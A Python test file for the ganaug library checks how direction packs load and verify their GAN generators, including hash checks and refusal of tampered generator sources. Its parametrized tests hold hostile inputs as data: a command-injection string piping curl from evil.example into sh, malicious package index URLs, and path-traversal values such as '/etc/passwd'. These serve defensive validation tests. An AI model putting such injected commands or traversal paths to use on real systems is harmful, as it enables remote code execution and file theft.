"""The generator and the encoder of a pack."""

import json

import pytest
import torch
from torch import nn

from ganaug.errors import PackError
from ganaug.generators import MLP, SNGAN, Generator, StyleGAN2
from ganaug.packs import DirectionPack
from ganaug.packs.format import checksum


def test_a_pack_whose_generator_is_not_installed_says_how_to_get_it(monkeypatch):
    pack = DirectionPack.from_pretrained("faces")
    monkeypatch.setattr("sys.path", [])
    with pytest.raises(PackError, match=r'pip install --no-deps "gan-face-generate==1\.1\.1"') as caught:
        _ = pack.generator
    for told in ("Whoever wrote the pack", "ganaug has not checked that package", "installing it runs its code"):
        assert told in str(caught.value)


def test_another_generator_is_refused_by_its_hash(folder, pack):
    torch.manual_seed(9)
    other = SNGAN(latent_dim=8, channels=3, num_classes=10, widths=(8, 8, 8, 8)).freeze()
    other.save_weights(folder / "generator.safetensors")
    with pytest.raises(PackError, match="belongs to a generator whose weights have SHA-256"):
        _ = DirectionPack.from_pretrained(folder).generator
    with pytest.raises(PackError, match="Directions of one generator mean nothing in another"):
        DirectionPack.from_pretrained(folder, generator=other)
    smaller = SNGAN(latent_dim=7, channels=3, widths=(8, 8, 8, 8)).freeze()
    with pytest.raises(PackError, match=r"directions of 8 dimensions, but its generator's latents have 7"):
        DirectionPack.from_pretrained(folder, generator=smaller)


def test_a_loaded_pack_does_not_follow_its_files(folder, pack):
    again = DirectionPack.from_pretrained(folder)
    assert again.generator is not None
    for name in ("directions.safetensors", "generator.safetensors"):
        with (folder / name).open("r+b") as file:
            file.seek(-32, 2)
            file.write(b"\x01" * 32)
    assert torch.equal(again.directions, pack.directions)
    assert again.generator.weights_sha256() == pack.generator.weights_sha256()


def test_the_generator_of_a_pack_is_frozen():
    generator = SNGAN(latent_dim=8, widths=(8, 8, 8, 8))
    pack = DirectionPack(torch.eye(8)[:2], generator=generator)
    before = generator.weights_sha256()
    pack.generator(torch.randn(4, 8))
    assert not generator.training and generator.weights_sha256() == before


def test_weights_of_a_distribution_stay_there(distribution, tutorial, tmp_path):
    pack = DirectionPack(torch.eye(6)[:2], generator_origin=distribution, license="mit")
    folder = pack.save_pretrained(tmp_path / "faces")
    assert not (folder / "generator.safetensors").exists()
    card = (folder / "README.md").read_text()
    assert 'pip install --no-deps "toy-faces==2.0"' in card and "license: mit" in card
    again, latents = DirectionPack.from_pretrained(folder), torch.randn(2, 6)
    torch.testing.assert_close(again.generator(latents), tutorial(latents[:, :, None, None]), rtol=1e-6, atol=1e-6)
    config = json.loads((folder / "config.json").read_text())
    config["generator"]["sha256"] = "0" * 64
    config["checksum"] = checksum(config)
    (folder / "config.json").write_text(json.dumps(config))
    with pytest.raises(PackError, match="weights have SHA-256 0000"):
        _ = DirectionPack.from_pretrained(folder).generator
    with pytest.raises(PackError, match="distribution gone, which is missing"):
        DirectionPack(torch.eye(6)[:2], generator_origin={**distribution, "distribution": "gone"}).load()


def test_a_pack_of_your_own_network_needs_that_network(tmp_path):
    class Network(nn.Module):
        def __init__(self):
            super().__init__()
            self.linear = nn.Linear(5, 3 * 8 * 8)

        def forward(self, latents):
            return self.linear(latents).tanh().unflatten(1, (3, 8, 8))

    torch.manual_seed(0)
    network = Network()
    generator = Generator.from_module(network, latent_dim=5, image_size=8, channels=3)
    DirectionPack(torch.eye(5)[:2], generator=generator).save_pretrained(tmp_path / "own")
    assert not (tmp_path / "own" / "generator.safetensors").exists()
    with pytest.raises(PackError, match=r"generator=Generator.from_module"):
        _ = DirectionPack.from_pretrained(tmp_path / "own").generator
    again = DirectionPack.from_pretrained(tmp_path / "own", generator=generator)
    assert again.generator is generator


def test_the_same_weights_that_draw_in_another_way_are_another_generator(tmp_path):
    torch.manual_seed(0)
    arguments = {"latent_dim": 4, "hidden": (8,), "image_size": 8, "channels": 1}
    generator = MLP(**arguments, activation="relu").freeze()
    DirectionPack(torch.eye(4)[:2], generator=generator).save_pretrained(tmp_path / "pack")
    other = MLP(**arguments, activation="leaky_relu").freeze()
    other.load_state_dict(generator.state_dict())
    with pytest.raises(PackError, match="activation='leaky_relu' where the pack says 'relu'"):
        DirectionPack.from_pretrained(tmp_path / "pack", generator=other)


def test_directions_outside_the_layers_of_a_generator_are_refused():
    generator = StyleGAN2(z_dim=4, w_dim=4, image_size=8, widths=(4, 4), latent_space="w", layers=(1, 2)).freeze()
    with pytest.raises(PackError, match=r"layers=\(1, 2\) leave 4 of 8"):
        DirectionPack(torch.eye(8)[:2], generator=generator)


@pytest.mark.parametrize(
    "wrong",
    [
        {"distribution": 'x"; curl evil.example | sh; "'},
        {"distribution": "--index-url=http://evil.example"},
        {"distribution": "git+https://evil.example/x"},
        {"distribution": "toy-"},
        {"version": "2.0 --pre"},
        {"version": "2.0; import os"},
        {"version": "../2.0"},
        {"path": "../secret.tar"},
        {"path": "toy_faces/../../secret.tar"},
        {"path": "/etc/passwd"},
        {"path": "C:\\weights.tar"},
        {"path": "toy_faces//weights.tar"},
        {"file_sha256": "0"},
        {"file_sha256": "../" * 20},
    ],
)
def test_a_source_that_is_no_file_of_a_distribution_is_refused_when_the_pack_is_read(distribution, wrong, tmp_path):
    folder = DirectionPack(torch.eye(6)[:2], generator_origin=distribution).save_pretrained(tmp_path / "faces")
    config = json.loads((folder / "config.json").read_text())
    config["generator"]["source"] |= wrong
    (folder / "config.json").write_text(json.dumps(config))
    with pytest.raises(PackError, match="the generator's source"):
        DirectionPack.from_pretrained(folder)


@pytest.mark.parametrize(
    ("repo", "revision"),
    [
        ("../x/y", "main"),
        ("/etc/x", "main"),
        ("x", "main"),
        ("org/a..b", "main"),
        ("org/x", "../../../x"),
        ("org/x", ""),
    ],
)
def test_a_source_that_is_no_repository_is_refused_when_the_pack_is_read(folder, repo, revision):
    config = json.loads((folder / "config.json").read_text())
    config["generator"]["source"] = {"repo": repo, "revision": revision}
    (folder / "config.json").write_text(json.dumps(config))
    with pytest.raises(PackError, match="the generator's source"):
        DirectionPack.from_pretrained(folder)


def test_a_file_of_a_distribution_is_its_own_lies_inside_and_has_the_hash(distribution, tmp_path):
    def refused(match, **other):
        with pytest.raises(PackError, match=match):
            DirectionPack(torch.eye(6)[:2], generator_origin={**distribution, **other}).load()

    site = tmp_path / "site"
    refused("has SHA-256 .*, expected 0000", file_sha256="0" * 64)
    (site / "toy_faces" / "weights.tar").rename(tmp_path / "elsewhere.tar")
    (site / "toy_faces" / "weights.tar").symlink_to(tmp_path / "elsewhere.tar")
    refused("is a link to outside")
    (site / "toy_faces" / "weights.tar").unlink()
    (tmp_path / "elsewhere.tar").rename(site / "toy_faces" / "weights.tar")
    record = site / "toy_faces-2.0.dist-info" / "RECORD"
    record.write_text("toy_faces/weights.tar,,\n")
    DirectionPack(torch.eye(6)[:2], generator_origin=distribution).load()
    record.write_text("toy_faces/other.tar,,\n")
    refused(r"toy-faces 2\.0 has no toy_faces/weights\.tar")
